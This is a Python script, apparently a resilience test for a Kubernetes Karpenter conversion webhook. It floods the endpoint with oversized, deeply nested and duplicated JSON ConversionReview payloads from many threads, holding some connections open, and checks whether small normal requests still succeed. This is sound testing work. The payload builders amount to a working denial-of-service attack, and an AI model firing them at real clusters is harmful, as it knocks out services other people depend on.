#!/usr/bin/env python3
"""Conversion reviews that are meant to do harm, all at once, and small ones of somebody else between them.

    hostile_reviews.py HOST:PORT [SECONDS]      prints JSON: what the small ones met, and how often each status came to the others
"""

import collections
import json
import socket
import ssl
import sys
import threading
import time

HOST, PORT = sys.argv[1].split(":")
SECONDS = float(sys.argv[2]) if len(sys.argv) > 2 else 6
CONTEXT = ssl.create_default_context()
CONTEXT.check_hostname, CONTEXT.verify_mode = False, ssl.CERT_NONE
MIB = 1 << 20


def review(objects, to="v1beta1", uid="u"):
    head = {"apiVersion": "apiextensions.k8s.io/v1", "kind": "ConversionReview"}
    text = json.dumps(head)[:-1] + f', "request": {{"uid": "{uid}", "desiredAPIVersion": "karpenter.sh/{to}", "objects": ['
    return text.encode() + b",".join(objects) + b"]}}"


def pool(spec, version="v1", name="a"):
    return b'{"apiVersion":"karpenter.sh/%s","kind":"NodePool","metadata":{"name":"%s"},"spec":%s}' % (
        version.encode(), name.encode(), spec)


def connect():
    return CONTEXT.wrap_socket(socket.create_connection((HOST, int(PORT)), timeout=30))


def ask(body, take=True):
    """The status and body that a review is answered with: 0 where there is no answer, -1 where none was waited for."""
    try:
        with connect() as stream:
            head = f"POST /conversion/karpenter.sh HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-length: {len(body)}\r\n\r\n"
            try:
                stream.sendall(head.encode() + body)
            except OSError:
                pass  # who is refused is hung up on before all was sent, and may read why
            if not take:
                time.sleep(SECONDS)
                return -1, b""
            answer = b"".join(iter(lambda: stream.recv(1 << 16), b""))
        return int(answer[9:12] or 0), answer.split(b"\r\n\r\n", 1)[-1]
    except (OSError, ValueError):
        return 0, b""


def attacks():
    maps = b'{"":{}},'
    fields = json.dumps({"template": {"metadata": {"annotations": {"a": "b"}}}, "disruption": {"consolidationPolicy": "Balanced"}})
    quotes = b'{"replicas":1,"template":{"metadata":{"annotations":{"q":"%s"}}}}' % (b'\\"' * (60 * 1024))
    heavy = b'{"template":{"metadata":{"labels":{%s"z":"z"}}}}' % b"".join(b'"l%d":"",' % n for n in range(5_000))
    maps_each = b'{"replicas":1,"template":{"x":[%s0]}}' % (maps * 1_200)
    return {
        "maps-31": review([b"[" + maps * (31 * MIB // len(maps)) + b"0]"]),
        "maps-7": review([pool(b"[" + maps * (7 * MIB // len(maps)) + b"0]")]),
        "maps-2": review([pool(b"[" + maps * (MIB // len(maps)) + b"0]")]),
        "no-review": b"[" + maps * (7 * MIB // len(maps)) + b"0]",
        "deep": review([pool(b'{"":' * (2 * MIB) + b"1" + b"}" * (2 * MIB))]),
        "pools-190000": review([pool(b"{}")] * 190_000),
        "pools-9000": review([pool(fields.encode(), "v1")] * 9_000),
        "numbers": review([b"0"] * (3 * MIB)),
        "quotes": review([pool(quotes)] * 60),
        "heavy": review([pool(heavy)] * 90),
        "maps-each": review([pool(maps_each)] * 600),
        "fields": review([b"{" + b",".join(b'"n%d":0' % n for n in range(600_000)) + b"}"]),
    }


def main():
    bodies = attacks()
    until = time.monotonic() + SECONDS
    statuses = {name: collections.Counter() for name in [*bodies, "not-taken", "small"]}
    lock = threading.Lock()

    def harm(name, body, take=True):
        while time.monotonic() < until:
            status, _ = ask(body, take)
            with lock:
                statuses[name][status] += 1

    threads = [threading.Thread(target=harm, args=one, daemon=True) for one in bodies.items()]
    taken = bodies["quotes"], bodies["maps-2"]
    threads += [threading.Thread(target=harm, args=("not-taken", taken[0], False), daemon=True) for _ in range(3)]
    threads += [threading.Thread(target=harm, args=("small", taken[1]), daemon=True) for _ in range(4)]
    for thread in threads:
        thread.start()
    deep = pool(b'{"weight":1}').replace(b'"metadata":{', b'"metadata":{"managedFields":[%s1%s],' % (b'{"f:a":' * 130, b"}" * 130))
    slowest, met = 0.0, collections.Counter()
    while time.monotonic() < until:
        begun = time.monotonic()
        status, body = ask(review([pool(b'{"weight":1}'), deep]))
        slowest = max(slowest, time.monotonic() - begun)
        met[f"{status} {body.count(b'karpenter.sh/v1beta1')} {b'Success' in body}"] += 1
        time.sleep(0.1)
    for thread in threads:
        thread.join(30)
    print(json.dumps({"slowest": round(slowest, 2), "met": met, "others": statuses}))


main()
